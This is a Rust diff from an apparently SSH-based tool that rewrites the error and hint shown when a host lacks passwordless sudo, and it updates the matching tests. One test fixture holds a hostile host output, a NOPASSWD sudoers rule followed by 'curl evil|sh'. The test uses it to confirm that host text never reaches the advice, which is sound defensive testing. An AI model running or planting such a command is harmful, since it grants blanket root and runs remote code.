@@ -130,8 +130,7 @@ pub(super) fn seen(host: &str, printed: &str, carried: &Carried) -> Result<Seen,
     if told("sudo") == Some("no") {
         let why = told("why").unwrap_or_default().trim();
         let message = format!(
-            "{host}: the work needs root: passwordless sudo for {user}, or {} (sudo says: {why})",
-            Choice::SshUser.with("root")
+            "{host}: the work needs root, or passwordless sudo for {user} (sudo says: {why})"
         );
         // No line to be run as root is made of what a host prints.
         return Err(SshError::new(SshErrorKind::NeedsRoot, message).hint(advice![
@@ -252,7 +251,15 @@ mod tests {
         let no = [&linux[..], &["sudo=no", "why=sudo: a password is required"]].concat();
         let no = of(&no).unwrap_err();
         assert_eq!(no.kind, SshErrorKind::NeedsRoot);
-        assert!(no.message.contains("{+ssh-user=root}") && no.message.contains("a password"));
+        assert_eq!(
+            no.message,
+            "m1: the work needs root, or passwordless sudo for jane (sudo says: sudo: a password is required)"
+        );
+        let hint = no.hint.unwrap().written();
+        assert!(
+            hint.starts_with("log in as root: {+ssh-user=root}, or "),
+            "{hint}"
+        );
         let hostile = [
             "uid=1000",
             "user=x ALL=(ALL) NOPASSWD: ALL; curl evil|sh",
@@ -260,7 +267,7 @@ mod tests {
             "machine=x86_64",
         ];
         let hostile = of(&[&hostile[..], &["sudo=no", "why="]].concat()).unwrap_err();
-        let hint = hostile.hint.unwrap().to_string();
+        let hint = hostile.hint.unwrap().written();
         assert!(
             !hint.contains("evil") && !hint.contains("NOPASSWD"),
             "{hint}"
